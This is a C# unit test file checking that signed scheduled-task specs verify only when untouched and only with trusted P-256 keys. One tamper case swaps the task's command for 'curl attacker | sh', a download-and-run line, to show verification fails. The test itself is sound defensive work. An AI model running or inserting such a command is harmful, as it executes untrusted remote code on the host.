using System.Security.Cryptography;
using Dtask.Core.Manifests;
using Dtask.Core.Model;

namespace Dtask.Core.Tests.Manifests;

public sealed class SpecSigningTests
{
    private static KvTaskSpec Envelope(string name = "backup", string command = "backup") => KvTaskSpec.From(new ScheduledTask
    {
        Metadata = new ObjectMeta { Name = name, Namespace = "ops", Generation = 3 },
        Spec = new ScheduledTaskSpec { Every = "1m", Command = [command], NodeSelector = new Dictionary<string, string> { ["zone"] = "b", ["disk"] = "ssd" } },
    }, TaskOwner.Cli);

    private static (SpecSigner Signer, TrustedSpecKeys Trusted) Keys(params ECDsa[] trusted)
    {
        using var folder = new Testing.TempDirectory();
        var signer = SpecSigner.Of(trusted[0]);
        var files = trusted.Select((k, i) => folder.Write($"k{i}.pub", k.ExportSubjectPublicKeyInfoPem())).ToList();
        return (signer, TrustedSpecKeys.FromPemFiles(files));
    }

    [Fact]
    public void A_signed_envelope_verifies_after_a_round_trip_through_its_JSON_and_any_change_breaks_it()
    {
        var (signer, trusted) = Keys(ECDsa.Create(ECCurve.NamedCurves.nistP256));
        var signed = signer.Sign(Envelope());
        var stored = KvTaskSpec.Parse(signed.ToJson());

        Assert.Null(trusted.Verify(stored));
        Assert.True(signer.HasSigned(stored));
        Assert.Equal("it is not signed", trusted.Verify(Envelope()));
        Assert.Contains("does not verify", trusted.Verify(stored with { Spec = stored.Spec with { Command = ["curl attacker | sh"] } }), StringComparison.Ordinal);
        Assert.Contains("does not verify", trusted.Verify(stored with { Name = "other" }), StringComparison.Ordinal);
        Assert.Contains("does not verify", trusted.Verify(stored with { Generation = 4 }), StringComparison.Ordinal);
        Assert.Contains("does not verify", trusted.Verify(stored with { Spec = stored.Spec with { NodeSelector = new Dictionary<string, string> { ["zone"] = "a" } } }), StringComparison.Ordinal);
        Assert.Contains("does not verify", trusted.Verify(signer.Sign(Envelope("other")) with { Name = "backup" }), StringComparison.Ordinal);
        Assert.Equal("its signature is not base64", trusted.Verify(stored with { Signature = stored.Signature! with { Value = "!!" } }));
    }

    [Fact]
    public void Several_trusted_keys_verify_each_their_own_signatures_and_a_foreign_key_is_named_untrusted()
    {
        using var first = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var second = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var (_, trusted) = Keys(first, second);
        using var rogue = SpecSigner.Of(ECDsa.Create(ECCurve.NamedCurves.nistP256));

        Assert.Null(trusted.Verify(SpecSigner.Of(first).Sign(Envelope())));
        Assert.Null(trusted.Verify(SpecSigner.Of(second).Sign(Envelope())));
        Assert.Equal($"it is signed by key {rogue.KeyId}, which is not trusted", trusted.Verify(rogue.Sign(Envelope())));
        Assert.Equal(2, trusted.KeyIds.Count);
    }

    [Fact]
    public void A_key_on_another_curve_or_a_missing_file_is_refused_naming_the_file()
    {
        using var folder = new Testing.TempDirectory();
        using var p384 = ECDsa.Create(ECCurve.NamedCurves.nistP384);
        var wrongCurve = folder.Write("p384.pem", p384.ExportPkcs8PrivateKeyPem());
        var missing = Path.Combine(folder.Path, "missing.pem");

        Assert.Equal($"signing key {wrongCurve}: an EC key on a 384-bit curve; dtask signs with P-256 (prime256v1) keys only",
            Assert.Throws<SpecKeyException>(() => SpecSigner.FromPemFile(wrongCurve)).Message);
        Assert.StartsWith($"trusted key {missing}: cannot be read: ", Assert.Throws<SpecKeyException>(() => TrustedSpecKeys.FromPemFiles([missing])).Message, StringComparison.Ordinal);
    }
}
